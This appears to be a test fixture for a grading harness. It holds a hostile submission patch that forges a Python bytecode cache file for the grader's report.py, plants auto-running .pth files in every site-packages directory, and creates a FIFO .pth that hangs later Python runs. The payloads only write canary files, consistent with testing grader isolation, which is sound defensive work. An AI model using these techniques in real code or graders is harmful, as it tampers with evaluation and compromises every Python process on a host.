"""Writes code that the grader's own process or any later Python would run (class 6): a forged
.pyc stamped to match the kit's grader/feedback/report.py, a .pth in every site-packages, and a FIFO
named *.pth that would hang every later Python."""
BASE = "reference"
SCORE = (0, 100)
PATCHES = [("common/functions.py", "import numpy as np\n", """import os
import sys

import numpy as np

try:
    import importlib.util
    import marshal
    import grader
    _kit = os.path.dirname(os.path.abspath(grader.__file__))
    _source = os.path.join(_kit, "report.py")
    _code = compile("open('/tmp/dlfs-hostile-canary/forged_pyc', 'w').write('ran')\\n", _source, "exec")
    _stat = os.stat(_source)
    _pyc = importlib.util.cache_from_source(_source)
    os.makedirs(os.path.dirname(_pyc), exist_ok=True)
    with open(_pyc, "wb") as _out:
        _out.write(importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
                   + int(_stat.st_mtime).to_bytes(4, "little") + (_stat.st_size & 0xFFFFFFFF).to_bytes(4, "little")
                   + marshal.dumps(_code))
except Exception:
    pass
for _folder in sys.path:
    if _folder.endswith("site-packages"):
        for _write in (lambda f: open(os.path.join(f, "dlfs_hostile_canary.pth"), "w").write(
                           "import os; open('/tmp/dlfs-hostile-canary/pth', 'w').write('ran')\\n"),
                       lambda f: os.mkfifo(os.path.join(f, "dlfs_hostile_fifo.pth"))):
            try:
                _write(_folder)
            except Exception:
                pass
""")]
